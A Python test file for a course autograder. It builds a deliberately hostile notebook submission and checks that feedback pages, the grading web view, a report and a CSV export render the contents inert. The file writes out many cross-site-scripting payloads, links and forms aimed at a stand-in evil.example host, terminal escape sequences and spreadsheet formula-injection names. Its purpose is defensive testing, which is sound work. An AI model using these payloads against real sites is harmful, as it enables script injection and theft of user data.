"""Nothing a student wrote is ever active on a page or in a spreadsheet (issue 18, item 3).

One ps01 submission, written as an attacker would write it: its written answer holds every kind
of active HTML (scripts, event handlers, an iframe, `javascript:` links in HTML and in Markdown,
an inline SVG script, `<object>`, `<embed>`, `<meta http-equiv=refresh>`, `<base>`, `<form>`,
CSS that covers the page or loads from elsewhere, a tracking pixel), and a cell it added prints
or displays HTML with scripts, JavaScript, an SVG with a script, Markdown with a script, an
"isolated" HTML output (nbconvert would put it in an iframe), a PNG whose metadata names a remote
file, a widget, terminal escapes (OSC 8 link, OSC 52 clipboard, cursor movement) and an error
whose message carries them. Every payload would set `window.__pwned` and carries the word
PWNED. The submission is graded once through the real pipeline (release, collect, grade,
feedback) and then:

- the feedback page and the Formgrader's submission view (served by a real Jupyter server
  with nbgrader's formgrader, on 127.0.0.1) are parsed: no script or active element from the
  submission, no `on*` handler, no `javascript:` or remote URL, no PWNED in any attribute;
- each page, and the grading report, is opened in Debian's headless Chromium: no payload ran,
  nothing was loaded from elsewhere, the figures are shown;
- the CSV export writes formula-looking cells as text, numbers as numbers, and lists folders of
  submitted/ whose names no grading accepts as refused, with an empty score.
"""

from __future__ import annotations

import base64
import csv
import re
import shutil
import urllib.request
from dataclasses import dataclass
from pathlib import Path
from urllib.parse import urlsplit

import nbformat
import pytest
from bs4 import BeautifulSoup
from conftest import lab_session_module, lab_session_with_chromium, make_course_copy

from autograder.class_report import write_report
from autograder.collect import collect_submissions
from autograder.course import Course
from autograder.export import export_csv
from autograder.feedback_pages import generate_feedback
from autograder.grade import GradingOptions, grade_assignment
from autograder.release import release_assignment
from autograder.samples import Sample, build_notebook
from autograder.status import FAILED, GradingStatus, write_status

pytestmark = [pytest.mark.grading, pytest.mark.slow, pytest.mark.timeout(1200)]

ASSIGNMENT = NOTEBOOK = "ps01_constant_lr"
MALLORY = "mallory"
MARKER = "PWNED"
WRITTEN_ANSWER_ID = "written_constant_lr_limits"

WRITTEN_ANSWER = "\n\n".join([
    "A constant learning rate must be small enough for the steepest direction, so it is "
    "**slow** where the curvature is small: $x_{t+1} = (1 - 2a\\,lr)\\,x_t$. See the "
    "[torch documentation](https://pytorch.org/docs/stable/optim.html).",
    "<script>window.__pwned = 'PWNED-script'</script>",
    "<img src=\"x\" onerror=\"window.__pwned = 'PWNED-onerror'\"> "
    "<body onload=\"window.__pwned='PWNED-body'\">",
    "<iframe srcdoc=\"<script>parent.__pwned = 'PWNED-iframe'</script>\"></iframe>",
    "<a href=\"javascript:window.__pwned = 'PWNED-html-link'\">an HTML link</a>",
    "[a Markdown link](javascript:window.__pwned='PWNED-markdown-link') and "
    "[another one](JaVaScRiPt:window.__pwned='PWNED-markdown-link-2')",
    "<svg><script>window.__pwned = 'PWNED-inline-svg'</script>"
    "<circle r=\"5\" onmouseover=\"window.__pwned='PWNED-svg-hover'\"/></svg>",
    "<object data=\"data:text/html;base64,"
    + base64.b64encode(b"<script>parent.__pwned='PWNED-object'</script>").decode()
    + "\"></object> <embed src=\"javascript:window.__pwned='PWNED-embed'\">",
    "<meta http-equiv=\"refresh\" content=\"0; url=javascript:window.__pwned='PWNED-meta'\">",
    "<base href=\"https://evil.example/PWNED-base/\">",
    "<form action=\"https://evil.example/PWNED-form\"><input name=\"token\">"
    "<button formaction=\"javascript:window.__pwned='PWNED-button'\">Send</button></form>",
    "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%;"
    "background:url(https://evil.example/PWNED-css.png)\">this covers the page</div>",
    "<style>@import url(https://evil.example/PWNED-import.css);</style>\n"
    "<link rel=\"stylesheet\" href=\"https://evil.example/PWNED-link.css\">",
    "![a tracking pixel](https://evil.example/PWNED-pixel.png)",
    "<math><mtext><img src=\"x\" onerror=\"window.__pwned='PWNED-mathml'\"></mtext></math>",
])

# A cell the student added after the figure cell; `\\x1b` etc. stay escapes in the notebook's
# source, the kernel turns them into the control characters when it runs the cell.
HOSTILE_OUTPUTS = r'''
import base64, io
from IPython.display import HTML, SVG, Javascript, Markdown, display

display(HTML("<b>an HTML output</b><script>window.__pwned='PWNED-html-output'</script>"
             "<img src=x onerror=\"window.__pwned='PWNED-html-output-onerror'\">"
             "<a href=\"javascript:window.__pwned='PWNED-html-output-link'\">click</a>"))
display(Javascript("window.__pwned = 'PWNED-javascript-output'"))
display(SVG('<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40" '
            'onload="window.__pwned=\'PWNED-svg-onload\'">'
            '<script>window.__pwned=\'PWNED-svg-script\'</script>'
            '<rect width="40" height="40" fill="teal"/></svg>'))
display(Markdown("**a Markdown output** <script>window.__pwned='PWNED-markdown-output'</script>"
                 " [click](javascript:window.__pwned='PWNED-markdown-output-link')"))
display({"text/html": "<p>isolated</p><script>window.__pwned='PWNED-isolated'</script>",
         "text/plain": "isolated"}, raw=True, metadata={"text/html": {"isolated": True}})
buffer = io.BytesIO()
fig_runs.savefig(buffer, format="png", dpi=20)
display({"image/png": base64.b64encode(buffer.getvalue()).decode(), "text/plain": "a small png"},
        raw=True, metadata={"filenames": {"image/png": "https://evil.example/PWNED-file.png"}})
display({"application/vnd.jupyter.widget-view+json": {"model_id": "PWNED", "version_major": 2,
                                                        "version_minor": 0},
         "text/plain": "a widget"}, raw=True)
print("\x1b[31mred text\x1b[0m \x1b]8;;https://evil.example/PWNED-osc8\x1b\\a terminal link"
      "\x1b]8;;\x1b\\ \x1b]52;c;UFdORUQtY2xpcGJvYXJk\x07 \x1b[2J\x1b[1;1Hcursor moved \x9b2J")
'''
HOSTILE_ERROR = r'''
raise ValueError("\x1b]8;;https://evil.example/PWNED-error\x1b\\bad value\x1b]8;;\x1b\\ "
                 "<script>window.__pwned='PWNED-error'</script>")
'''
FORMULA_STUDENTS = ("=1+2", "@SUM(1+1)", "-2+3", "+cmd")
"""Folders in submitted/ (put there by hand: collect would have renamed them) never graded. No
such name is a student id, so the export and the report list them as refused, never as 0."""
FAILED_STUDENT, FAILED_MESSAGE = "zz_failed", "@SUM(1+1) the notebook could not be read."
REPORT_STUDENT = "mallory_report"
"""(An id cannot carry markup any more: the ledger and collect refuse it — the message can.)"""
REPORT_MESSAGE = "<script>window.__pwned='PWNED-report-message'</script>"


@dataclass
class HostileCourse:
    course: Course
    feedback_page: Path
    autograded: nbformat.NotebookNode
    report_page: Path
    export: Path


def _insert_after(nb: nbformat.NotebookNode, grade_id: str, *sources: str) -> None:
    """Add plain code cells, as a student would, after the cell with this grade id."""
    index = next(i for i, cell in enumerate(nb.cells)
                 if cell.metadata.get("nbgrader", {}).get("grade_id") == grade_id)
    for offset, source in enumerate(sources, start=1):
        nb.cells.insert(index + offset, nbformat.v4.new_code_cell(source))


def hostile_notebook(course: Course) -> nbformat.NotebookNode:
    """The instructor's solution with the hostile written answer and the added cells."""
    nb = build_notebook(course, ASSIGNMENT, NOTEBOOK,
                        Sample(MALLORY, "", cells={WRITTEN_ANSWER_ID: WRITTEN_ANSWER}))
    _insert_after(nb, "runs_figure", HOSTILE_OUTPUTS, HOSTILE_ERROR)
    return nb


def _collected_but_not_graded(course: Course, student: str) -> None:
    folder = course.submitted_dir / student / ASSIGNMENT
    folder.mkdir(parents=True)
    shutil.copy2(course.release_dir / ASSIGNMENT / f"{NOTEBOOK}.ipynb", folder)


@pytest.fixture(scope="module")
def graded(tmp_path_factory) -> HostileCourse:
    root = tmp_path_factory.mktemp("active-content")
    course = Course(make_course_copy(root / "course"))
    release_assignment(course, ASSIGNMENT)
    inbox = root / "inbox"
    (inbox / MALLORY).mkdir(parents=True)
    nbformat.write(hostile_notebook(course), inbox / MALLORY / f"{NOTEBOOK}.ipynb")
    assert not collect_submissions(course, ASSIGNMENT, inbox).skipped
    (status,) = grade_assignment(course, ASSIGNMENT, [MALLORY],
                                 options=GradingOptions(workers=1, progress=False))
    assert status.status == "graded", status.message
    assert not generate_feedback(course, ASSIGNMENT)
    for student in FORMULA_STUDENTS:
        _collected_but_not_graded(course, student)
    write_status(course.grading_dir, GradingStatus(FAILED_STUDENT, ASSIGNMENT, FAILED,
                                                   message=FAILED_MESSAGE))
    write_status(course.grading_dir, GradingStatus(REPORT_STUDENT, ASSIGNMENT, FAILED,
                                                   message=REPORT_MESSAGE))
    export = root / "grades.csv"
    export_csv(course, export, [ASSIGNMENT])
    (page,) = (course.feedback_dir / MALLORY / ASSIGNMENT).glob("*.html")
    autograded = nbformat.read(course.autograded_dir / MALLORY / ASSIGNMENT / f"{NOTEBOOK}.ipynb",
                               as_version=4)
    return HostileCourse(course, page, autograded,
                         write_report(course, root / "report", [ASSIGNMENT]), export)


# --- reading a page as a browser would ---------------------------------------------------------

ACTIVE_ELEMENTS = frozenset({
    "script", "iframe", "frame", "frameset", "object", "embed", "applet", "base", "form",
    "input", "button", "textarea", "select", "link", "style", "meta", "svg", "math", "template",
    "noscript", "portal", "audio", "video", "source", "track",
})
LOADING_ATTRIBUTES = frozenset({"src", "srcset", "data", "background", "poster", "action",
                                "formaction", "codebase", "srcdoc", "ping", "xlink:href"})
STUDENT_REGIONS = ".text_cell_render, .output_subarea, .input_area"
"""Where nbconvert's classic template (under nbgrader's feedback and formgrade templates) puts
what the student wrote: Markdown cells, outputs, code."""


def _values(value) -> str:
    return " ".join(value) if isinstance(value, list) else str(value)


def _decoded(url: str) -> str:
    """A `data:…;base64,` URL's content (where a payload would hide), else the URL itself."""
    match = re.match(r"\s*data:[^,]*;base64,(.*)", url, re.DOTALL)
    if not match:
        return url
    return base64.b64decode(match.group(1) + "==", validate=False).decode("utf-8", "replace")


def _scheme(url: str) -> str:
    return urlsplit(re.sub(r"[\x00-\x20]", "", url)).scheme.lower()


def problems_in_student_content(soup: BeautifulSoup) -> list[str]:
    """What in the regions holding the student's work could run, load or cover the page."""
    problems = []
    for region in soup.select(STUDENT_REGIONS):
        for tag in region.find_all(True):
            if tag.name in ACTIVE_ELEMENTS:
                problems.append(f"a <{tag.name}> element")
            for name, raw in tag.attrs.items():
                value = _values(raw)
                if name.startswith("on"):
                    problems.append(f"a {name} handler on <{tag.name}>")
                elif name in ("style", "id", "name"):
                    problems.append(f"a {name} attribute on <{tag.name}>")
                elif name == "href" and _scheme(value) not in ("", "http", "https", "mailto"):
                    problems.append(f"a {_scheme(value)}: link")
                elif name in LOADING_ATTRIBUTES and not value.startswith("data:image/"):
                    problems.append(f"<{tag.name} {name}> loads {value[:60]!r}")
    return problems


def markers_in_attributes(soup: BeautifulSoup) -> list[str]:
    """Every attribute value on the page (data: URLs decoded) that carries a payload."""
    found = []
    for tag in soup.find_all(True):
        for name, raw in tag.attrs.items():
            content = _decoded(_values(raw))
            if MARKER.lower() in content.lower() or "<script" in content.lower():
                found.append(f"<{tag.name} {name}={_values(raw)[:80]!r}>")
    return found


def remote_loads(soup: BeautifulSoup, allowed: tuple[str, ...] = ()) -> list[str]:
    """Elements that would fetch something from another site when the page opens."""
    found = []
    for tag in soup.find_all(True):
        for name in ("src", "srcset", "data", "poster", "background"):
            url = _values(tag.get(name, ""))
            remote = _scheme(url) in ("http", "https") or url.startswith("//")
            if remote and not url.startswith(allowed):
                found.append(f"<{tag.name} {name}={url[:80]!r}>")
        if tag.name == "link" and _scheme(_values(tag.get("href", ""))) in ("http", "https"):
            found.append(f"<link href={tag['href']!r}>")
    for style in soup.find_all("style"):
        found.extend(f"CSS loads {url!r}" for url in re.findall(
            r"(?:@import\s*|url\()\s*['\"]?(https?://[^'\")\s]+)", style.get_text()))
    return found


def png_outputs(nb: nbformat.NotebookNode) -> int:
    return sum("image/png" in output.get("data", {})
               for cell in nb.cells if cell.cell_type == "code" for output in cell.outputs)


# --- the feedback page ---------------------------------------------------------------------


def test_the_feedback_page_holds_nothing_active(graded):
    from autograder.local_mathjax import feedback_scripts

    soup = BeautifulSoup(graded.feedback_page.read_text(encoding="utf-8"), "html.parser")
    # no script but the course's own MathJax, inline (issue 20)
    assert [script.string for script in soup.find_all("script")] == list(feedback_scripts())
    assert [m.attrs for m in soup.find_all("meta")
            if set(m.attrs) - {"charset", "name", "content"}
            and m.get("http-equiv") != "Content-Security-Policy"] == []
    assert soup.find_all(["iframe", "frame", "object", "embed", "base", "form", "input"]) == []
    assert [(tag.name, name) for tag in soup.find_all(True) for name in tag.attrs
            if name.startswith("on")] == []
    assert problems_in_student_content(soup) == []
    assert markers_in_attributes(soup) == []
    assert remote_loads(soup) == []
    # what the student wrote is still there, as text
    text = soup.get_text()
    assert "<script>window.__pwned = 'PWNED-script'</script>" in text
    assert "torch documentation" in text and "red text" in text and "a terminal link" in text
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]", text), "a control character"


def test_the_feedback_page_forbids_scripts_and_remote_loads(graded):
    soup = BeautifulSoup(graded.feedback_page.read_text(encoding="utf-8"), "html.parser")
    policy = soup.find("meta", attrs={"http-equiv": "Content-Security-Policy"})
    assert policy is not None and policy.find_parent("head") is not None
    directives = dict(part.strip().split(" ", 1) for part in policy["content"].split(";"))
    assert directives["default-src"] == "'none'"
    assert all(source.startswith("'sha256-") for source in directives["script-src"].split())
    assert directives["img-src"] == "data:" and directives["base-uri"] == "'none'"


def test_the_feedback_page_keeps_figures_and_plain_outputs(graded):
    soup = BeautifulSoup(graded.feedback_page.read_text(encoding="utf-8"), "html.parser")
    pngs = soup.select("img[src^='data:image/png;base64,']")
    assert png_outputs(graded.autograded) >= 4  # three figures of the solution + mallory's
    assert len(pngs) == png_outputs(graded.autograded)
    (svg,) = soup.select("img[src^='data:image/svg+xml;base64,']")
    figure = _decoded(svg["src"])
    assert "<rect" in figure and "script" not in figure and "onload" not in figure
    text = soup.get_text()
    assert "an HTML output" in text and "a Markdown output" in text and "isolated" in text
    assert "ValueError: bad value" in text
    outputs = " ".join(area.get_text() for area in soup.select(".output_subarea"))
    assert "a widget" not in outputs  # a widget's repr never shows; its cell's figure does


# --- the Formgrader ----------------------------------------------------------------------------


def _submission_id(course: Course) -> str:
    with course.gradebook() as gradebook:
        return gradebook.find_submission_notebook(NOTEBOOK, ASSIGNMENT, MALLORY).id


@pytest.fixture(scope="module")
def formgrader(graded, tmp_path_factory):
    """A Jupyter server (JupyterLab, with nbgrader's formgrader extension) on the graded course,
    on 127.0.0.1 with a token: (its URL of mallory's submission view, the view's HTML)."""
    lab_session = lab_session_module()
    with lab_session.running_lab(graded.course.root, tmp_path_factory.mktemp("formgrader")) as lab:
        url = lab.url(f"formgrader/submissions/{_submission_id(graded.course)}/")
        with urllib.request.urlopen(url, timeout=60) as response:
            assert response.status == 200
            page = response.read().decode("utf-8")
        yield url, page


def test_the_formgrader_view_holds_nothing_active_from_the_submission(formgrader):
    _, page = formgrader
    soup = BeautifulSoup(page, "html.parser")
    assert "mallory" in soup.get_text() and "torch documentation" in soup.get_text()
    assert "<script>window.__pwned = 'PWNED-script'</script>" in soup.get_text()
    assert problems_in_student_content(soup) == []
    assert markers_in_attributes(soup) == []
    # the formgrader's own scripts and styles only: its static files, and MathJax from the
    # Jupyter server (jupyter-server-mathjax), never a CDN (issue 20)
    own = ("/formgrader/static/", "/static/jupyter_server_mathjax/")
    assert [s.get("src") for s in soup.find_all("script") if s.get("src")
            and not s["src"].startswith(own)] == []
    assert remote_loads(soup, allowed=own) == []
    assert [(t.name, n) for t in soup.select("#notebook-container *") for n in t.attrs
            if n.startswith("on")] == []


# --- in the browser ----------------------------------------------------------------------------

RECORD_VIOLATIONS = """
window.__violations = [];
document.addEventListener('securitypolicyviolation',
    e => window.__violations.push(e.violatedDirective + ' ' + e.blockedURI));
"""
PAGE_STATE = """() => ({
    pwned: window.__pwned === undefined ? null : String(window.__pwned),
    violations: window.__violations,
    links: Array.from(document.querySelectorAll('a[href]')).map(a => a.protocol),
    images: Array.from(document.querySelectorAll('img')).map(img => ({
        src: img.currentSrc.slice(0, 22), width: img.naturalWidth,
        shown: img.getBoundingClientRect().width > 0 })),
})"""


def _browser():
    pytest.importorskip("playwright.sync_api", reason="pip install playwright")
    return lab_session_with_chromium()


@pytest.fixture(scope="module")
def open_page():
    """`open_page(url)` → (what the page did, every URL it asked for) in headless Chromium;
    requests to any other host than 127.0.0.1 are refused (and recorded)."""
    lab_session = _browser()
    from playwright.sync_api import sync_playwright

    with sync_playwright() as playwright:
        browser = lab_session.launch_chromium(playwright)

        def visit(url: str):
            page = browser.new_page()
            requested, dialogs = [], []
            page.on("request", lambda request: requested.append(request.url))
            page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
            page.route(re.compile(r"^https?://(?!127\.0\.0\.1[:/])"), lambda route: route.abort())
            page.add_init_script(RECORD_VIOLATIONS)
            page.goto(url, wait_until="load")
            state = page.evaluate(PAGE_STATE)
            state["frames"], state["dialogs"] = len(page.frames), dialogs
            page.close()
            return state, requested

        yield visit
        browser.close()


@pytest.mark.browser
def test_no_payload_runs_on_the_feedback_page(graded, open_page):
    state, requested = open_page(graded.feedback_page.as_uri())
    assert state["pwned"] is None and state["dialogs"] == [] and state["frames"] == 1
    # nothing tried to run, or to load from anywhere but the page's own folder (which the
    # policy refuses too: Bootstrap's icon font, from nbgrader's template)
    assert [v for v in state["violations"] if not v.startswith("font-src file")] == []
    assert [url for url in requested if urlsplit(url).scheme != "file"] == []
    assert set(state["links"]) <= {"http:", "https:", "mailto:", "file:"}
    figures = [image for image in state["images"] if image["src"].startswith("data:image/")]
    assert len(figures) == png_outputs(graded.autograded) + 1  # + the (cleaned) SVG
    assert all(image["width"] > 0 and image["shown"] for image in figures)


@pytest.mark.browser
def test_no_payload_runs_in_the_formgrader(formgrader, open_page):
    url, _ = formgrader
    state, requested = open_page(url)
    assert state["pwned"] is None and state["dialogs"] == [] and state["frames"] == 1
    assert not [u for u in requested if "evil.example" in u or MARKER in u]
    assert set(state["links"]) <= {"http:", "https:", "mailto:"}
    assert any(image["src"].startswith("data:image/png") and image["width"] > 0
               and image["shown"] for image in state["images"])


@pytest.mark.browser
def test_no_payload_runs_in_the_report(graded, open_page):
    state, requested = open_page(graded.report_page.as_uri())
    assert state["pwned"] is None and state["violations"] == [] and state["frames"] == 1
    assert all(urlsplit(u).scheme == "file" for u in requested)
    assert len(state["images"]) == 2 and all(i["width"] > 0 for i in state["images"])


# --- the report and the export ---------------------------------------------------------------


def test_the_report_escapes_students_and_loads_nothing_remote(graded):
    soup = BeautifulSoup(graded.report_page.read_text(encoding="utf-8"), "html.parser")
    assert soup.find_all(["script", "iframe", "object", "embed"]) == []
    assert markers_in_attributes(soup) == [] and remote_loads(soup) == []
    assert REPORT_STUDENT in soup.get_text() and REPORT_MESSAGE in soup.get_text()
    policy = soup.find("meta", attrs={"http-equiv": "Content-Security-Policy"})
    assert policy is not None and "default-src 'none'" in policy["content"]
    assert all(student in soup.get_text() for student in FORMULA_STUDENTS)  # listed, as text


def test_the_export_writes_formulas_as_text_and_numbers_as_numbers(graded):
    with graded.export.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.reader(handle))
    header, body = rows[0], rows[1:]
    columns = {name: index for index, name in enumerate(header)}
    text_columns = [columns[name] for name in ("assignment", "student_id", "status", "message")]
    for row in body:
        for index in text_columns:
            assert not row[index].startswith(("=", "+", "-", "@", "\t", "\r")), row
    by_student = {row[columns["student_id"]]: row for row in body}
    for student in FORMULA_STUDENTS:
        assert "'" + student in by_student, f"{student} is missing from the export"
    assert by_student[f"'{FORMULA_STUDENTS[0]}"][columns["message"]] != ""
    assert by_student[FAILED_STUDENT][columns["message"]] == "'" + FAILED_MESSAGE
    mallory = by_student[MALLORY]
    assert float(mallory[columns["score"]]) > 0 and float(mallory[columns["max_score"]]) > 0


def test_never_graded_folders_named_like_formulas_are_refused_not_zero(graded):
    with graded.export.open(encoding="utf-8", newline="") as handle:
        rows = {row["student_id"]: row for row in csv.DictReader(handle)}
    for student in FORMULA_STUDENTS:
        row = rows["'" + student]
        assert row["status"] == "failed"
        assert row["message"].startswith("the submission folder's name is refused")
        assert row["score"] == row["max_score"] == row["auto_score"] == ""
    assert rows[MALLORY]["status"] in {"graded", "needs manual grading"}
